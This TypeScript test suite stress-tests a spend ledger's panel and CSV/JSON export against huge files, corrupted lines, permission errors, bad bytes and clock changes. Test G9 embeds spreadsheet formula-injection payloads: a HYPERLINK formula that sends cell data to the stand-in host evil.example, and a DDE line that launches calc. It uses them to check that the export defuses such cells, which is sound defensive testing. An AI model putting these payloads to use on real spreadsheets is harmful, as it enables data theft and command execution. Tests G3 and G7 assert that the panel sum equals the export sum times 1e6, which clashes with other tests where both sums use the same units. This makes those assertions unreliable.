// spend6 audit, part 3: the ledger attacked. Every record here is a hand bill of 1000 µ$ ($0.001) unless its test says
// otherwise, so every total is (records) × 1000 µ$. What the panel shows is what the tail reads (LedgerTail, as the
// spend store follows the folder); what the user exports is what Ledger.load reads: the two must agree, and a record
// that cannot be read must be said, never dropped in silence.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { Ledger, LedgerTail, ledgerCsv, ledgerJson, BUNDLED_PRICES } from '../../../src/core/spend';
import { nodeLedgerFs, type LedgerFs } from '../../../src/core/spend/ledgerFs';
import { serializeRecord } from '../../../src/core/spend/ledgerRecord';
import type { LedgerRecord } from '../../../src/core/request';
import { record } from './fixtures/records';
import { DEC, at, bill, near, sum, withDir as withTempDir, bothViews } from './fixtures/ledgerDay';
import { parseCsv } from './fixtures/csv';

const withDir = (fn: (dir: string) => Promise<void>): Promise<void> => withTempDir('spend6-ledger-', fn);

suite('spend6 / ledger attacked', function () {
  this.timeout(120_000);

  test('G1 a ledger file over 100 MB (110,000 records of ~950 bytes): panel and export read every one, 110000 × 1000 µ$ = $110', () => withDir(async (dir) => {
    const N = 110_000;
    const reasons = Array.from({ length: 5 }, (_, k) => `reason ${k}: `.padEnd(150, 'x'));
    const chunks: string[] = [];
    for (let i = 0; i < N; i++) chunks.push(serializeRecord(bill(`big-${i}`, i, { reasons })));
    const data = chunks.join('');
    fs.writeFileSync(path.join(dir, DEC), data);
    assert.ok(data.length > 100 * 1024 * 1024, `${data.length} bytes`);
    const t0 = Date.now();
    const v = await bothViews(dir);
    const ms = Date.now() - t0;
    assert.equal(v.t.records.length, N, 'panel (tail)');
    assert.equal(v.l.records.length, N, 'export (load)');
    near(sum(v.t.records), N * 1000, 'panel');
    near(sum(v.l.records), N * 1000, 'export');
    assert.ok(ms < 60_000, `read both ways in ${ms} ms`);
  }));

  test('G2 a 50 MB line of garbage between records: 2 × 1000 µ$ counted by panel and export, nothing said lost', () => withDir(async (dir) => {
    const junk = Buffer.alloc(50 * 1024 * 1024, 'z');
    fs.writeFileSync(path.join(dir, DEC), Buffer.concat([Buffer.from(serializeRecord(bill('g2-a', 1))), junk, Buffer.from('\n'), Buffer.from(serializeRecord(bill('g2-b', 2)))]));
    const v = await bothViews(dir);
    near(sum(v.t.records), 2000, 'panel');
    near(sum(v.l.records), 2000, 'export');
    assert.equal(v.tail.damagedNow, 0);
    assert.equal(v.l.damaged, 0);
  }));

  // The first version of this test passed on the product while it lost 59,999 of 60,002 records in silence: it took one
  // salvaged record as "said". Now every record must be counted or said lost, the same in both views.
  test('G3 a 50 MB line of 150,000 records whose line breaks were stripped (a tool re-saved the file): every record counted or said, panel = export', () => withDir(async (dir) => {
    const N = 150_000;
    const glued = Array.from({ length: N }, (_, i) => serializeRecord(bill(`g3-${i}`, i)).slice(0, -1)).join('');
    assert.ok(glued.length > 50 * 1024 * 1024 * 0.95, `${glued.length} bytes`);
    fs.writeFileSync(path.join(dir, DEC), serializeRecord(bill('g3-first', 0)) + glued + '\n' + serializeRecord(bill('g3-last', 1)));
    const v = await bothViews(dir);
    assert.equal(v.l.records.length + v.l.damaged, N + 2, `export: ${v.l.records.length} counted, ${v.l.damaged} said lost`);
    assert.equal(v.t.records.length + v.tail.damagedNow, N + 2, `panel: ${v.t.records.length} counted, ${v.tail.damagedNow} said lost`);
    near(sum(v.t.records), sum(v.l.records) * 1e6, 'panel = export');
  }));

  test('G4 permission denied reading the month file: neither the panel nor the export drops it in silence', () => withDir(async (dir) => {
    fs.writeFileSync(path.join(dir, DEC), serializeRecord(bill('g4-a', 1)) + serializeRecord(bill('g4-b', 2)));
    const denied: LedgerFs = {
      ...nodeLedgerFs,
      readFile: async (f) => { if (f.endsWith(DEC)) throw Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' }); return nodeLedgerFs.readFile(f); },
      readRange: async (f, s, e) => { if (f.endsWith(DEC)) throw Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' }); return nodeLedgerFs.readRange(f, s, e); },
    };
    const v = await bothViews(dir, denied);
    assert.deepEqual(v.l.unreadable, [DEC], 'the export says which file it could not read');
    assert.deepEqual(v.tail.unreadableNow, [DEC], 'the panel says which file it could not read');
    assert.ok(v.warnings.some((w) => w.includes(DEC) && /permission denied/.test(w)), v.warnings.join(' | '));
  }));

  test('G5 the month file replaced by a directory: the next record (1000 µ$) still counts, one warning, the export says the file is unreadable', () => withDir(async (dir) => {
    fs.mkdirSync(path.join(dir, DEC));
    const warnings: string[] = [];
    const ledger = await Ledger.open(dir, { onWarning: (m) => warnings.push(m) });
    const res = await ledger.append(bill('g5-a', 1));
    assert.equal(res.written, false);
    const l = await ledger.load();
    await ledger.close();
    near(sum(l.records), 1000, 'counted from memory');
    assert.equal(warnings.length, 1, warnings.join(' | '));
    assert.deepEqual(l.unreadable, [DEC]);
  }));

  test('G6 a read-only month file (EACCES on open): the record (1000 µ$) is kept and counted, the warning says permission denied', () => withDir(async (dir) => {
    const ro: LedgerFs = { ...nodeLedgerFs, openAppend: async () => { throw Object.assign(new Error('EACCES'), { code: 'EACCES' }); } };
    const warnings: string[] = [];
    const ledger = await Ledger.open(dir, { fs: ro, onWarning: (m) => warnings.push(m) });
    assert.equal((await ledger.append(bill('g6-a', 1))).written, false);
    near(sum((await ledger.load()).records), 1000, 'in memory');
    await ledger.close();
    assert.equal(warnings.length, 1);
    assert.match(warnings[0]!, /permission denied/);
  }));

  test('G7 non-UTF-8 bytes: 0xFF 0xFE inside a record is said (changed or damaged), raw junk between records is skipped, a lone surrogate and an emoji in a model name read back exact', () => withDir(async (dir) => {
    const odd = bill('g7-c', 3, { model: 'team-\ud800-🦙' });
    const b = Buffer.from(serializeRecord(bill('g7-b', 2, { model: 'claude-sonnet-4-6' })));
    const hit = b.indexOf('sonnet');
    b[hit] = 0xff; b[hit + 1] = 0xfe;
    fs.writeFileSync(path.join(dir, DEC), Buffer.concat([Buffer.from(serializeRecord(bill('g7-a', 1))), b, Buffer.from([0xc0, 0xc1, 0xf5, 0x80, 0x0a]), Buffer.from(serializeRecord(odd))]));
    const v = await bothViews(dir);
    assert.ok(v.l.records.some((r) => r.id === 'g7-a') && v.l.records.some((r) => r.id === 'g7-c'));
    assert.equal(v.l.records.find((r) => r.id === 'g7-c')!.model, odd.model);
    const bRead = v.l.records.some((r) => r.id === 'g7-b');
    assert.ok(bRead ? v.l.altered === 1 : v.l.damaged === 1, `B read ${bRead}, altered ${v.l.altered}, damaged ${v.l.damaged}`);
    near(sum(v.t.records), sum(v.l.records) * 1e6, 'panel = export');
  }));

  test('G8 the clock stepped back across a month boundary: 00:00:05 on 1 Dec, then 23:59:58 on 30 Nov — two files, both bills (2 × 1000 µ$) in panel and export', () => withDir(async (dir) => {
    const ledger = await Ledger.open(dir);
    await ledger.append(record('g8-a', { time: '2026-12-01T00:00:05.000Z', costUsd: 0.001 }));
    await ledger.append(record('g8-b', { time: '2026-11-30T23:59:58.000Z', costUsd: 0.001 }));
    await ledger.close();
    assert.deepEqual(fs.readdirSync(dir).sort(), ['ledger-2026-11.jsonl', DEC]);
    const v = await bothViews(dir);
    near(sum(v.t.records), 2000, 'panel');
    near(sum(v.l.records), 2000, 'export');
  }));

  test('G9 export fidelity: every record once, CSV = JSON = panel (1000 + 2500 + 0 + 4000 µ$, one unpriced), and formula-looking cells are defused', () => withDir(async (dir) => {
    // (Control characters such as a tab are refused in a model name by the record's validation, so not tried there.)
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '=1+1', '=2+2'];
    const rs = [
      bill('g9-a', 1, { model: evil[0]! }), bill('g9-b', 2, { model: evil[1]!, costUsd: 0.0025, reasons: [evil[3]!] }),
      bill('g9-c', 3, { model: evil[2]!, costUsd: null }), bill('g9-d', 4, { model: evil[4]!, costUsd: 0.004, reasons: [evil[5]!] }),
    ];
    const ledger = await Ledger.open(dir);
    for (const r of rs) await ledger.append(r);
    await ledger.close();
    const v = await bothViews(dir);
    const snap = v.model.snapshot(new Date('2026-12-03T12:00:00Z'));
    near(snap.month.cloudUsd, 7500, 'panel');
    const rows = parseCsv(ledgerCsv(v.l.records, BUNDLED_PRICES));
    const head = rows[0]!;
    assert.equal(rows.length - 1, 4, 'one row per record');
    near(rows.slice(1).reduce((s, row) => s + (Number(row[head.indexOf('costUsd')]) || 0), 0), 7500, 'CSV');
    near((JSON.parse(ledgerJson(v.l.records, BUNDLED_PRICES)) as LedgerRecord[]).reduce((s, r) => s + (r.costUsd ?? 0), 0), 7500, 'JSON');
    for (const row of rows.slice(1)) {
      for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-?\d/.test(cell), `a spreadsheet would run ${JSON.stringify(cell)}`);
      const m = row[head.indexOf('model')]!;
      assert.ok(evil.some((e) => m === `'${e}`), `the model name is kept, defused: ${JSON.stringify(m)}`);
    }
    assert.equal(rows.find((row) => row[0] === 'g9-c')![head.indexOf('costNote')], 'unknown price');
  }));
});
